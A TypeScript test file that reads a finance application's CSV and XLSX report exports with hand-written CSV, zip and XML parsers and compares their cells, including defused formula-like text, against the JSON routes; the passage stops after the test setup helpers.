import { moneyPoster } from '../helpers/money-bodies';
import { crc32, gunzipSync, inflateRawSync } from 'node:zlib';
import { Server } from 'node:http';
import { appendAsOldLedger } from '../helpers/append-as-old-ledger';
import { rawGet, RawAnswer } from '../helpers/raw-get';
import { startTestApp, TestApp } from '../helpers/test-app';
import { FIXTURE_2013, importFile } from '../funding/import-fixture';

/**
 * Adversarial review of the REPORT FILES (README, *Auditing*: `/reports/key-figures/:year/csv`,
 * `/reports/funding-mix/:year/csv`, `/reports/:year/xlsx`, and `/key-figures/:year?format=csv`) as a
 * county finance officer or an auditor opens them in Excel or LibreOffice.
 *
 * Every file is read here the way a spreadsheet would: the CSV by an RFC 4180 reader of our own
 * (strict: a bare quote or line break outside quotes fails), the XLSX by a zip reader of our own
 * (central directory → local headers → inflateRaw, CRC checked) and a strict XML 1.0 well-formedness
 * parser of our own (tags balanced, attributes quoted and unique, only the five predefined entities and
 * character references, only XML 1.0 `Char`s), then the cells compared with the JSON read routes for the
 * same year, filter and `asOf`.
 */

// ---------------------------------------------------------------------------------------------
// Readers
// ---------------------------------------------------------------------------------------------

/** One CSV field and whether it was written inside quotes. */
interface CsvField { v: string; quoted: boolean }

/** RFC 4180 reader: CRLF between records (a bare CR or LF outside quotes fails), "" inside quotes. */
const readCsv = (text: string, sep: string): CsvField[][] => {
  const rows: CsvField[][] = [];
  let row: CsvField[] = [];
  let cell = '';
  let quoted = false;
  let inQuotes = false;
  let i = 0;
  const endCell = () => { row.push({ v: cell, quoted }); cell = ''; quoted = false; };
  while (i < text.length) {
    const ch = text[i];
    if (inQuotes) {
      if (ch === '"') {
        if (text[i + 1] === '"') { cell += '"'; i += 2; continue; }
        inQuotes = false; i++;
        if (i < text.length && text[i] !== sep && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}: ${JSON.stringify(text.slice(i - 10, i + 10))}`);
        continue;
      }
      cell += ch; i++; continue;
    }
    if (ch === '"') {
      if (cell !== '') throw new Error(`a quote inside an unquoted field at ${i}: ${JSON.stringify(text.slice(i - 10, i + 10))}`);
      inQuotes = true; quoted = true; i++; continue;
    }
    if (ch === sep) { endCell(); i++; continue; }
    if (ch === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
      endCell(); rows.push(row); row = []; i += 2; continue;
    }
    if (ch === '\n') throw new Error(`bare LF at ${i}: ${JSON.stringify(text.slice(Math.max(0, i - 20), i + 5))}`);
    cell += ch; i++;
  }
  if (inQuotes) throw new Error('unterminated quoted field');
  if (cell !== '' || row.length) throw new Error('the last record has no CRLF');
  return rows;
};

/** A CSV body: checks the BOM, strips it, reads the records (as strings and with their quoting). */
const csvOf = (body: string, sep = ';'): { rows: string[][]; fields: CsvField[][] } => {
  if (body.charCodeAt(0) !== 0xfeff) throw new Error(`no UTF-8 BOM: starts ${JSON.stringify(body.slice(0, 10))}`);
  const fields = readCsv(body.slice(1), sep);
  // An empty line is one record with one empty field: keep it as [] for the row-shape checks.
  const rows = fields.map((r) => (r.length === 1 && r[0].v === '' && !r[0].quoted ? [] : r.map((f) => f.v)));
  return { rows, fields };
};

/** What Excel / LibreOffice run as a formula when the text is put into a cell (OWASP CSV injection). */
const runsAsFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && cell !== '-' && !/^[+-]?\d+(,\d+)?$/.test(cell);

interface ZipEntry { name: string; method: number; data: Buffer; compressedSize: number }

/** A zip reader written from the spec (APPNOTE 4.3): end record → central directory → local headers → data. */
const readZip = (buf: Buffer): Map<string, ZipEntry> => {
  const EOCD = 0x06054b50;
  let end = -1;
  for (let p = buf.length - 22; p >= Math.max(0, buf.length - 22 - 0xffff); p--) if (buf.readUInt32LE(p) === EOCD) { end = p; break; }
  if (end < 0) throw new Error('no end of central directory record');
  const disk = buf.readUInt16LE(end + 4);
  const cdDisk = buf.readUInt16LE(end + 6);
  const onDisk = buf.readUInt16LE(end + 8);
  const total = buf.readUInt16LE(end + 10);
  const cdSize = buf.readUInt32LE(end + 12);
  const cdAt = buf.readUInt32LE(end + 16);
  const commentLen = buf.readUInt16LE(end + 20);
  if (disk !== 0 || cdDisk !== 0 || onDisk !== total) throw new Error('multi-disk zip');
  if (end + 22 + commentLen !== buf.length) throw new Error('bytes after the end record');
  if (cdAt + cdSize !== end) throw new Error(`central directory ${cdAt}+${cdSize} does not end at the end record ${end}`);
  const out = new Map<string, ZipEntry>();
  let p = cdAt;
  let expectedLocal = 0;
  for (let i = 0; i < total; i++) {
    if (buf.readUInt32LE(p) !== 0x02014b50) throw new Error(`central header ${i}: bad signature`);
    const flags = buf.readUInt16LE(p + 8);
    const method = buf.readUInt16LE(p + 10);
    const crc = buf.readUInt32LE(p + 16);
    const csize = buf.readUInt32LE(p + 20);
    const usize = buf.readUInt32LE(p + 24);
    const nameLen = buf.readUInt16LE(p + 28);
    const extraLen = buf.readUInt16LE(p + 30);
    const cCommentLen = buf.readUInt16LE(p + 32);
    const localAt = buf.readUInt32LE(p + 42);
    const name = buf.subarray(p + 46, p + 46 + nameLen).toString('utf8');
    if (flags & 0x1) throw new Error(`${name}: encrypted`);
    if (localAt !== expectedLocal) throw new Error(`${name}: local header at ${localAt}, expected ${expectedLocal} (gap or overlap)`);
    if (buf.readUInt32LE(localAt) !== 0x04034b50) throw new Error(`${name}: bad local signature`);
    const lFlags = buf.readUInt16LE(localAt + 6);
    const lMethod = buf.readUInt16LE(localAt + 8);
    const lCrc = buf.readUInt32LE(localAt + 14);
    const lCsize = buf.readUInt32LE(localAt + 18);
    const lUsize = buf.readUInt32LE(localAt + 22);
    const lNameLen = buf.readUInt16LE(localAt + 26);
    const lExtraLen = buf.readUInt16LE(localAt + 28);
    const lName = buf.subarray(localAt + 30, localAt + 30 + lNameLen).toString('utf8');
    if (lName !== name) throw new Error(`local name ${lName} ≠ central name ${name}`);
    if (lFlags !== flags || lMethod !== method) throw new Error(`${name}: local flags/method differ from the central directory`);
    if (!(flags & 0x8) && (lCrc !== crc || lCsize !== csize || lUsize !== usize)) throw new Error(`${name}: local sizes/CRC differ from the central directory`);
    const start = localAt + 30 + lNameLen + lExtraLen;
    const raw = buf.subarray(start, start + csize);
    if (raw.length !== csize) throw new Error(`${name}: truncated`);
    let data: Buffer;
    if (method === 8) data = inflateRawSync(raw);
    else if (method === 0) data = Buffer.from(raw);
    else throw new Error(`${name}: compression method ${method}`);
    if (data.length !== usize) throw new Error(`${name}: ${data.length} bytes inflated, ${usize} declared`);
    if ((crc32(data) >>> 0) !== crc) throw new Error(`${name}: CRC mismatch`);
    if (out.has(name)) throw new Error(`${name}: twice in the archive`);
    out.set(name, { name, method, data, compressedSize: csize });
    expectedLocal = start + csize + (flags & 0x8 ? 16 : 0);
    p += 46 + nameLen + extraLen + cCommentLen;
  }
  if (expectedLocal !== cdAt) throw new Error(`the last entry ends at ${expectedLocal}, the central directory starts at ${cdAt}`);
  return out;
};

/** A parsed XML element. */
interface XmlNode { name: string; attrs: Record<string, string>; children: (XmlNode | string)[] }

/** XML 1.0 `Char`. */
const isXmlChar = (cp: number): boolean => cp === 0x9 || cp === 0xa || cp === 0xd || (cp >= 0x20 && cp <= 0xd7ff) || (cp >= 0xe000 && cp <= 0xfffd) || (cp >= 0x10000 && cp <= 0x10ffff);
const NAME = /^[A-Za-z_:][A-Za-z0-9_:.\-\u00B7\u00C0-\uFFFD]*$/;

/**
 * A strict, small XML 1.0 parser (well-formedness only, no DTD): the declaration, one root element,
 * balanced tags, quoted and unique attributes, no `<` in attribute values, only `&lt; &gt; &amp;
 * &quot; &apos;` and character references (to XML `Char`s), only XML `Char`s in the text, and the
 * line-end (CRLF/CR → LF) and attribute-value normalisation a real parser does, so the text read is
 * what Excel reads.
 */
const parseXml = (bytes: Buffer): XmlNode => {
  if (bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf) bytes = bytes.subarray(3);
  const src = bytes.toString('utf8');
  if (Buffer.from(src, 'utf8').compare(bytes) !== 0) throw new Error('not valid UTF-8');
  for (const ch of src) if (!isXmlChar(ch.codePointAt(0)!)) throw new Error(`character U+${ch.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} is not an XML 1.0 Char`);
  const s = src.replace(/\r\n?/g, '\n');
  let i = 0;
  const fail = (msg: string): never => { throw new Error(`${msg} at ${i}: ${JSON.stringify(s.slice(Math.max(0, i - 40), i + 40))}`); };
  const decode = (text: string, inAttr: boolean): string => {
    let out = '';
    let k = 0;
    while (k < text.length) {
      const c = text[k];
      if (c === '&') {
        const semi = text.indexOf(';', k);
        if (semi < 0) fail('unterminated reference');
        const ref = text.slice(k + 1, semi);
        const named: Record<string, string> = { lt: '<', gt: '>', amp: '&', quot: '"', apos: "'" };
        if (ref in named) out += named[ref];
        else if (/^#[0-9]+$/.test(ref) || /^#x[0-9A-Fa-f]+$/.test(ref)) {
          const cp = ref[1] === 'x' ? parseInt(ref.slice(2), 16) : parseInt(ref.slice(1), 10);
          if (!isXmlChar(cp)) fail(`character reference to a non-Char ${ref}`);
          out += String.fromCodePoint(cp);
          k = semi + 1;
          continue;
        } else fail(`undeclared entity &${ref};`);
        k = semi + 1;
        continue;
      }
      if (c === '<') fail('< in text or attribute value');
      out += inAttr && (c === '\t' || c === '\n') ? ' ' : c;
      k++;
    }
    return out;
  };
  const skipWs = () => { while (i < s.length && /[ \t\n]/.test(s[i])) i++; };
  if (s.startsWith('<?xml')) {
    const e = s.indexOf('?>');
    if (e < 0) fail('unterminated XML declaration');
    const decl = s.slice(0, e + 2);
    if (!/^<\?xml version="1\.0"( encoding="UTF-8")?( standalone="(yes|no)")?\s*\?>$/i.test(decl)) fail(`odd XML declaration ${decl}`);
    i = e + 2;
  }
  const misc = () => {
    for (;;) {
      skipWs();
      if (s.startsWith('<!--', i)) { const e = s.indexOf('-->', i); if (e < 0) fail('unterminated comment'); i = e + 3; continue; }
      if (s.startsWith('<?', i)) { const e = s.indexOf('?>', i); if (e < 0) fail('unterminated PI'); i = e + 2; continue; }
      if (s.startsWith('<!DOCTYPE', i)) fail('a DOCTYPE in an OOXML part');
      return;
    }
  };
  const readName = (): string => {
    const m = /^[^\s/>=]+/.exec(s.slice(i, i + 300));
    if (!m || !NAME.test(m[0])) fail('bad name');
    i += m![0].length;
    return m![0];
  };
  const element = (): XmlNode => {
    if (s[i] !== '<') fail('expected <');
    i++;
    const name = readName();
    const attrs: Record<string, string> = {};
    for (;;) {
      const before = i;
      skipWs();
      if (s.startsWith('/>', i)) { i += 2; return { name, attrs, children: [] }; }
      if (s[i] === '>') { i++; break; }
      if (i === before) fail('attributes need whitespace between them');
      const an = readName();
      skipWs();
      if (s[i] !== '=') fail('attribute without =');
      i++;
      skipWs();
      const q = s[i];
      if (q !== '"' && q !== "'") fail('unquoted attribute value');
      const e = s.indexOf(q, i + 1);
      if (e < 0) fail('unterminated attribute value');
      if (an in attrs) fail(`attribute ${an} twice`);
      attrs[an] = decode(s.slice(i + 1, e), true);
      i = e + 1;
    }
    const children: (XmlNode | string)[] = [];
    for (;;) {
      if (i >= s.length) fail(`unclosed <${name}>`);
      if (s.startsWith('</', i)) {
        i += 2;
        const close = readName();
        if (close !== name) fail(`</${close}> closes <${name}>`);
        skipWs();
        if (s[i] !== '>') fail('bad end tag');
        i++;
        return { name, attrs, children };
      }
      if (s.startsWith('<!--', i)) { const e = s.indexOf('-->', i); if (e < 0) fail('unterminated comment'); i = e + 3; continue; }
      if (s.startsWith('<![CDATA[', i)) { const e = s.indexOf(']]>', i); if (e < 0) fail('unterminated CDATA'); children.push(s.slice(i + 9, e)); i = e + 3; continue; }
      if (s.startsWith('<?', i)) { const e = s.indexOf('?>', i); if (e < 0) fail('unterminated PI'); i = e + 2; continue; }
      if (s[i] === '<') { children.push(element()); continue; }
      const e = s.indexOf('<', i);
      const raw = s.slice(i, e < 0 ? s.length : e);
      if (raw.includes(']]>')) fail(']]> in text');
      children.push(decode(raw, false));
      i = e < 0 ? s.length : e;
    }
  };
  misc();
  const root = element();
  misc();
  if (i !== s.length) fail('content after the root element');
  return root;
};

const kids = (n: XmlNode, name: string): XmlNode[] => n.children.filter((c): c is XmlNode => typeof c !== 'string' && c.name === name);
const kid = (n: XmlNode, name: string): XmlNode | undefined => kids(n, name)[0];
const textOf = (n: XmlNode): string => n.children.map((c) => (typeof c === 'string' ? c : textOf(c))).join('');

/** A cell as Excel reads it: a number with its number format, or text. */
interface XCell { ref: string; col: number; number: number | null; text: string | null; numFmt: string; bold: boolean; type: string | null }

const colIndex = (letters: string): number => [...letters].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0) - 1;

interface Workbook { parts: Map<string, ZipEntry>; xml: Map<string, XmlNode>; sheets: { name: string; rows: XCell[][]; node: XmlNode; path: string }[] }

const BUILTIN_FMT: Record<number, string> = { 0: 'General', 1: '0', 2: '0.00', 3: '#,##0', 4: '#,##0.00', 9: '0%', 10: '0.00%', 49: '@' };

/** Opens an XLSX as a spreadsheet does: content types, relationships, workbook, styles, each worksheet. */
const readWorkbook = (buf: Buffer): Workbook => {
  const parts = readZip(buf);
  const xml = new Map<string, XmlNode>();
  for (const [name, e] of parts) if (name.endsWith('.xml') || name.endsWith('.rels')) xml.set(name, parseXml(e.data));
  const ct = xml.get('[Content_Types].xml');
  if (!ct) throw new Error('no [Content_Types].xml');
  const rels = xml.get('_rels/.rels');
  if (!rels) throw new Error('no _rels/.rels');
  const officeDoc = kids(rels, 'Relationship').find((r) => r.attrs.Type.endsWith('/officeDocument'));
  if (!officeDoc) throw new Error('no officeDocument relationship');
  const wbPath = officeDoc.attrs.Target.replace(/^\//, '');
  const wb = xml.get(wbPath);
  if (!wb) throw new Error(`workbook ${wbPath} missing`);
  const wbRels = xml.get(wbPath.replace(/([^/]+)$/, '_rels/$1.rels'));
  if (!wbRels) throw new Error('no workbook relationships');
  const dir = wbPath.replace(/[^/]+$/, '');
  const relTarget = (id: string) => {
    const r = kids(wbRels, 'Relationship').find((x) => x.attrs.Id === id);
    if (!r) throw new Error(`relationship ${id} missing`);
    return r.attrs.Target.startsWith('/') ? r.attrs.Target.slice(1) : dir + r.attrs.Target;
  };
  const stylesRel = kids(wbRels, 'Relationship').find((r) => r.attrs.Type.endsWith('/styles'));
  const styles = stylesRel ? xml.get(relTarget(stylesRel.attrs.Id)) : undefined;
  const fmts = new Map<number, string>(Object.entries(BUILTIN_FMT).map(([k, v]) => [Number(k), v]));
  const xfs: { fmt: string; bold: boolean }[] = [];
  if (styles) {
    for (const f of kids(kid(styles, 'numFmts') ?? { name: '', attrs: {}, children: [] }, 'numFmt')) fmts.set(Number(f.attrs.numFmtId), f.attrs.formatCode);
    const fonts = kids(kid(styles, 'fonts')!, 'font').map((f) => kid(f, 'b') !== undefined);
    for (const x of kids(kid(styles, 'cellXfs')!, 'xf')) {
      const id = Number(x.attrs.numFmtId ?? 0);
      if (!fmts.has(id)) throw new Error(`style uses numFmtId ${id}, defined nowhere`);
      xfs.push({ fmt: fmts.get(id)!, bold: fonts[Number(x.attrs.fontId ?? 0)] ?? false });
    }
  }
  const sst = xml.get(`${dir}sharedStrings.xml`);
  const shared = sst ? kids(sst, 'si').map(textOf) : [];
  const sheets = kids(kid(wb, 'sheets')!, 'sheet').map((sh) => {
    const path = relTarget(sh.attrs['r:id']);
    const node = xml.get(path);
    if (!node) throw new Error(`sheet ${path} missing`);
    if (!kids(ct, 'Override').some((o) => o.attrs.PartName === `/${path}`)) throw new Error(`${path} has no content type`);
    const rows: XCell[][] = [];
    let lastRow = 0;
    for (const r of kids(kid(node, 'sheetData')!, 'row')) {
      const rn = Number(r.attrs.r);
      if (!(rn > lastRow)) throw new Error(`${path}: row ${r.attrs.r} after ${lastRow}`);
      lastRow = rn;
      const cells: XCell[] = [];
      let lastCol = -1;
      for (const c of kids(r, 'c')) {
        const m = /^([A-Z]+)(\d+)$/.exec(c.attrs.r);
        if (!m || Number(m[2]) !== rn) throw new Error(`${path}: cell ${c.attrs.r} in row ${rn}`);
        const col = colIndex(m[1]);
        if (col <= lastCol) throw new Error(`${path}: cell ${c.attrs.r} out of order`);
        lastCol = col;
        if (kid(c, 'f')) throw new Error(`${path}: ${c.attrs.r} holds a formula`);
        const style = xfs[Number(c.attrs.s ?? 0)];
        if (c.attrs.s !== undefined && !style) throw new Error(`${path}: ${c.attrs.r} uses style ${c.attrs.s}, which styles.xml does not define`);
        const t = c.attrs.t ?? null;
        let number: number | null = null;
        let text: string | null = null;
        if (t === 'inlineStr') text = textOf(kid(c, 'is')!);
        else if (t === 's') text = shared[Number(textOf(kid(c, 'v')!))];
        else if (t === 'str') text = textOf(kid(c, 'v')!);
        else if (t === null || t === 'n') {
          const v = kid(c, 'v');
          if (v) {
            const raw = textOf(v);
            if (!/^-?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(raw)) throw new Error(`${path}: ${c.attrs.r} number ${JSON.stringify(raw)} is not an xsd:double`);
            number = Number(raw);
          }
        } else throw new Error(`${path}: ${c.attrs.r} has cell type ${t}`);
        cells[col] = { ref: c.attrs.r, col, number, text, numFmt: style?.fmt ?? 'General', bold: style?.bold ?? false, type: t };
      }
      rows[rn - 1] = cells;
    }
    for (let k = 0; k < rows.length; k++) if (!rows[k]) rows[k] = [];
    return { name: sh.attrs.name, rows, node, path };
  });
  return { parts, xml, sheets };
};


// ---------------------------------------------------------------------------------------------
// What each cell should be, worked out from the JSON answers
// ---------------------------------------------------------------------------------------------

const NOK = '#,##0.00';
const INT = '#,##0';
const TENTHS = '0.0';
const PCT = '0.0%';
type XExp = { text: string } | { num: number; fmt: string } | null;
/** One expected cell: its CSV field (the report CSVs: `;`, decimal comma) and its XLSX cell. */
/** `csv` null: a cell only the workbook has (the CSV row ends before it). */
interface Exp { csv: string | null; x: XExp }
/** The CSV fields of expected rows (workbook-only cells left out). */
const csvOfRows = (rows: Exp[][]): string[][] => rows.map((r) => r.filter((e) => e.csv !== null).map((e) => e.csv as string));

const comma = (d: string) => d.replace('.', ',');
/** README: text a spreadsheet would run as a formula (=, +, -, @, tab, CR; not the bare -) is prefixed with '. */
const defuse = (s: string) => (s !== '-' && /^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
/** What XML 1.0 can hold: README says the workbook has no character XML 1.0 forbids, so those are dropped. */
const xmlSafe = (s: string) => [...s].filter((ch) => isXmlChar(ch.codePointAt(0)!) && !(ch.length === 1 && ch.charCodeAt(0) >= 0xd800 && ch.charCodeAt(0) <= 0xdfff)).join('');
/**
 * A text cell. The CSV is UTF-8, which cannot hold a lone surrogate (any encoder writes U+FFFD); the
 * XLSX cell as a parser reads it: without what XML 1.0 forbids (a CR survives, written as &#13;;
 * checked on its own below too).
 */
const T = (s: string): Exp => ({ csv: defuse(s).replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'), x: { text: xmlSafe(s) } });
const NIL: Exp = { csv: '', x: null };
const COUNT = (n: number): Exp => ({ csv: String(n), x: { num: n, fmt: INT } });
const TEN = (s: string | null): Exp => (s === null ? NIL : { csv: comma(s), x: { num: Number(s), fmt: TENTHS } });
const KR = (s: string | null): Exp => (s === null ? NIL : { csv: comma(s), x: { num: Number(s), fmt: NOK } });
const SHARE = (s: string | null): Exp => (s === null ? NIL : { csv: comma(s), x: { num: Number(s) / 100, fmt: PCT } });
/** A funding-mix amount (README: a total missing unreported amounts reads `<sum> + ikke oppgitt`, or `ikke oppgitt`; the XLSX keeps the number). */
const MONEY = (a: { amount: string | null; unreportedEntries: number }): Exp => ({
  csv: a.unreportedEntries > 0 ? (a.amount === null ? 'ikke oppgitt' : `${comma(a.amount)} + ikke oppgitt`) : a.amount === null ? '' : comma(a.amount),
  x: a.amount === null ? null : { num: Number(a.amount), fmt: NOK },
});

const KIND_NB: Record<string, string> = { 'operating-grant': 'Driftsmidler', earmarked: 'Øremerkede midler', tender: 'Anbud', 'other-income': 'Andre inntekter', 'in-kind': 'Tjenester og naturalytelser' };
const PARTY_KIND_NB: Record<string, string> = {
  'county-authority': 'Fylkeskommune', 'nav-county-office': 'NAV fylke', 'nav-local-office': 'NAV lokal', municipality: 'Kommune', vox: 'Vox', 'county-governor': 'Statsforvalter',
  union: 'Fagforening', 'employers-organisation': 'Arbeidsgiverorganisasjon', university: 'Universitet/høgskole', 'regional-council': 'Regionråd', 'business-park': 'Næringshage', other: 'Annen',
};
const tenthsSum = (shares: (string | null)[]): string | null => {
  const listed = shares.filter((s): s is string => s !== null);
  if (!listed.length) return null;
  const t = listed.reduce((n, s) => n + Math.round(Number(s) * 10), 0);
  return `${Math.floor(t / 10)}.${t % 10}`;
};

/** The funding-mix table a spreadsheet shows, cell by cell, from the JSON funding mix (every number from the JSON). */
const fundingMixExpected = (mix: any): Exp[][] => {
  const scope = mix.scope.level === 'country' ? 'hele landet' : mix.scope.level === 'county' ? `fylke: ${mix.scope.name}` : `karrieresenter: ${mix.scope.name}`;
  const rows: Exp[][] = [];
  const H = (...labels: string[]) => labels.map(T);
  rows.push([T(`Finansieringsmiks ${mix.year}, ${scope}`)], []);
  rows.push(H('Finansiør', 'Type part', 'Beløp, kr', 'Andel', 'Poster', 'Poster uten beløp'));
  for (const p of mix.byParty) rows.push([T(p.partyName ?? p.partyId), T(PARTY_KIND_NB[p.partyKind] ?? p.partyKind ?? ''), MONEY(p), SHARE(p.sharePercent), COUNT(p.entries), COUNT(p.unreportedEntries)]);
  // The Sum row's share is what its column adds up to: the shares listed above it.
  rows.push([T('Sum'), T(''), MONEY(mix.total), SHARE(tenthsSum(mix.byParty.map((p: any) => p.sharePercent))), COUNT(mix.total.entries), COUNT(mix.total.unreportedEntries)], []);
  rows.push(H('Type midler', '', 'Beløp, kr', 'Andel', 'Poster', 'Poster uten beløp'));
  for (const k of mix.byKind) rows.push([T(KIND_NB[k.kind]), T(''), MONEY(k), SHARE(k.sharePercent), COUNT(k.entries), COUNT(k.unreportedEntries)]);
  rows.push([], H('Finansiør', 'Type midler', 'Beløp, kr', '', 'Poster', 'Poster uten beløp'));
  const names = new Map(mix.byParty.map((p: any) => [p.partyId, p.partyName ?? p.partyId]));
  for (const l of mix.byPartyAndKind) rows.push([T(names.get(l.partyId) as string), T(KIND_NB[l.kind]), MONEY(l), NIL, COUNT(l.entries), COUNT(l.unreportedEntries)]);
  if (mix.unreported.length) {
    rows.push([], [T('Poster der beløpet ikke er oppgitt (ikke med i summene)')], H('Finansiør', 'Type midler', 'Vedtatt', 'Referanse', 'Senter', 'Post-id'));
    for (const u of mix.unreported) rows.push([T(u.partyName ?? u.partyId), T(KIND_NB[u.kind]), T(u.decidedOn), T(u.reference ?? ''), T(u.centreId), T(u.entryId)]);
  }
  if (mix.inKind.length) {
    rows.push([], [T('Tjenester og naturalytelser (ved siden av, ikke med i summene)')], H('Part', '', 'Anslått verdi, kr', '', 'Poster', 'Poster uten verdi'));
    for (const i of mix.inKind) rows.push([T(i.partyName ?? i.partyId), T(''), MONEY({ amount: i.estimatedValue, unreportedEntries: i.unvaluedEntries }), NIL, COUNT(i.entries), COUNT(i.unvaluedEntries)]);
  }
  rows.push([], [T('Årsverk i alt'), T(''), TEN(mix.staff.staffYears)]);
  if (mix.staff.paidDirectly.length) {
    // A value leaving out positions without an annual cost: "<sum> + ikke oppgitt" in the CSV; the XLSX keeps the number and says so in a «Merknad» column.
    const partial = mix.staff.paidDirectly.some((p: any) => !p.valueComplete);
    rows.push(partial ? [...H('Årsverk lønnet direkte av', 'Type part', 'Årsverk', 'Verdi, kr'), ...H('Merknad').map((h) => ({ csv: null, x: h.x }))] : H('Årsverk lønnet direkte av', 'Type part', 'Årsverk', 'Verdi, kr'));
    for (const p of mix.staff.paidDirectly) {
      const value: Exp = p.valueComplete ? KR(p.value) : { csv: p.value === null ? 'ikke oppgitt' : `${comma(p.value)} + ikke oppgitt`, x: p.value === null ? null : { num: Number(p.value), fmt: NOK } };
      const note: Exp[] = p.valueComplete ? [] : [{ csv: null, x: { text: 'årlig kostnad ikke oppgitt for noen stillinger (ikke med i verdien)' } }];
      rows.push([T(p.partyName ?? p.partyId), T(PARTY_KIND_NB[p.partyKind] ?? p.partyKind ?? ''), TEN(p.staffYears), value, ...note]);
    }
  }
  if (mix.parts?.length) {
    rows.push([], H(mix.scope.level === 'country' ? 'Per fylke' : 'Per karrieresenter', '', 'Beløp, kr', '', 'Poster', 'Poster uten beløp'));
    for (const p of mix.parts) rows.push([T(p.name), T(''), MONEY(p.total), NIL, COUNT(p.total.entries), COUNT(p.total.unreportedEntries)]);
  }
  rows.push([]);
  return rows; // the closing note (rounding rule) is checked on its own
};

/**
 * The key-figures table from the JSON key figures, in one of three forms: the report CSV (`;`, decimal
 * comma), the XLSX (numbers, a count row after each NOK row some county has unreported entries in) or
 * `/key-figures/:year?format=csv` ('plain': `,`, decimal point).
 */
const keyFiguresExpected = (kf: any, form: 'csv' | 'xlsx' | 'plain', scopeLine?: string): Exp[][] => {
  const dec = form === 'plain' ? (d: string) => d : comma;
  const rows: Exp[][] = [];
  if (scopeLine !== undefined) rows.push([T(scopeLine)]);
  rows.push([T(`Nøkkeltall ${kf.year}`), ...kf.counties.map((c: any) => T(c.name))]);
  const num = (n: number): Exp => ({ csv: String(n), x: { num: n, fmt: INT } });
  const dash = (n: number): Exp => (n === 0 ? T('-') : num(n));
  const ten = (s: string | null): Exp => (s === null ? NIL : { csv: dec(s), x: { num: Number(s), fmt: TENTHS } });
  for (const r of kf.rows) {
    const label = T(r.label);
    if (r.key === 'centres') rows.push([label, ...kf.counties.map((c: any) => num(c.centres))]);
    else if (r.key.startsWith('persons.')) rows.push([label, ...kf.counties.map((c: any) => dash(c.personsByEmployer[r.key.slice(8)]))]);
    else if (r.key === 'fullTime') rows.push([label, ...kf.counties.map((c: any) => dash(c.fullTime))]);
    else if (r.key === 'staffYears') rows.push([label, ...kf.counties.map((c: any) => ten(c.staffYears))]);
    else if (/^(operatingGrant|earmarked|tender)\./.test(r.key) || r.key === 'otherIncome') {
      const figures = kf.counties.map((c: any) => c.money[r.key]);
      rows.push([label, ...figures.map((f: any) => T(f.indicator))]);
      rows.push([T(`${r.label}, kr`), ...figures.map((f: any): Exp => {
        if (f.entries === 0) return NIL;
        const csvText = f.amount === null ? 'ikke oppgitt' : f.unreportedEntries > 0 ? `${dec(f.amount)} + ikke oppgitt` : dec(f.amount);
        return { csv: csvText, x: f.amount === null ? { text: 'ikke oppgitt' } : { num: Number(f.amount), fmt: NOK } };
      })]);
      if (form === 'xlsx' && figures.some((f: any) => f.unreportedEntries > 0)) rows.push([T(`${r.label}: poster uten oppgitt beløp`), ...figures.map((f: any) => num(f.unreportedEntries))]);
    } else if (r.key.startsWith('staffPaidDirectly.')) {
      const figures = kf.counties.map((c: any) => c.staffPaidDirectly[r.key]);
      rows.push([label, ...figures.map((f: any) => T(f.indicator))]);
      rows.push([T(`${r.label}, årsverk`), ...figures.map((f: any) => ten(f.staffYears))]);
    } else throw new Error(`a key-figures row the review does not know: ${r.key}`);
  }
  if (form !== 'plain') rows.push([]); // then the note on the indicator rule, checked on its own
  return rows;
};

/** An XLSX sheet as comparable cells: text (an empty text is no cell), or a number with its format. */
const sheetCells = (rows: XCell[][]): XExp[][] =>
  rows.map((r) => {
    const out: XExp[] = [];
    for (let i = 0; i < r.length; i++) {
      const c = r[i];
      out[i] = !c ? null : c.text !== null ? (c.text === '' ? null : { text: c.text }) : c.number === null ? null : { num: c.numFmt === PCT ? Math.round(c.number * 1e9) / 1e9 : c.number, fmt: c.numFmt };
    }
    while (out.length && out[out.length - 1] === null) out.pop();
    return Array.from(out, (v) => v ?? null);
  }) as XExp[][];
const expectedCells = (rows: Exp[][]): XExp[][] =>
  rows.map((r) => {
    const out = r.map((e) => (e.x && 'text' in e.x && e.x.text === '' ? null : e.x && 'num' in e.x && e.x.fmt === PCT ? { num: Math.round(e.x.num * 1e9) / 1e9, fmt: PCT } : e.x));
    while (out.length && out[out.length - 1] === null) out.pop();
    return out;
  });

/** A report CSV's decimal amount ("1234,50", "1234,50 + ikke oppgitt") in øre; null for '' and 'ikke oppgitt'. */
const ore = (field: string): bigint | null => {
  const m = /^(\d+),(\d\d)( \+ ikke oppgitt)?$/.exec(field);
  return m ? BigInt(m[1]) * 100n + BigInt(m[2]) : null;
};

type Auth = { Authorization: string };

describe('report files as a finance officer and an auditor use them (review)', () => {
  let t: TestApp;
  let admin: Auth;
  let auditor: Auth;
  let server: Server;

  const post = async (path: string, body: object, expected?: number) => {
    const res = await t.http().post(path).set(admin).send(body);
    if (expected !== undefined ? res.status !== expected : res.status >= 300) throw new Error(`${path} ${JSON.stringify(body)} → ${res.status} ${JSON.stringify(res.body)}`);
    return res.body;
  };
  const json = async (path: string, who: Auth = auditor) => {
    const res = await t.http().get(path).set(who);
    if (res.status !== 200) throw new Error(`${path} → ${res.status} ${JSON.stringify(res.body)}`);
    return res.body;
  };
  const raw = (path: string, headers: Record<string, string> = {}, method = 'GET'): Promise<RawAnswer> => rawGet(server, path, { ...auditor, ...headers }, method);
  const file = async (path: string, headers: Record<string, string> = {}): Promise<RawAnswer> => {
    const res = await raw(path, headers);
    if (res.statusCode !== 200) throw new Error(`${path} → ${res.statusCode} ${res.body}`);
    return res;
  };
  const csv = async (path: string, sep = ';') => csvOf((await file(path)).body, sep);
  const xlsx = async (path: string) => readWorkbook((await file(path)).rawPayload);
  const errorOf = async (path: string, who: Auth = auditor) => {
    const res = await t.http().get(path).set(who);
    return { status: res.status, code: res.body?.code, message: res.body?.message, details: res.body?.details };
  };

  const money = moneyPoster((path, body) => post(path, body), { reference: (n) => `FT-sak ${n}/12` });
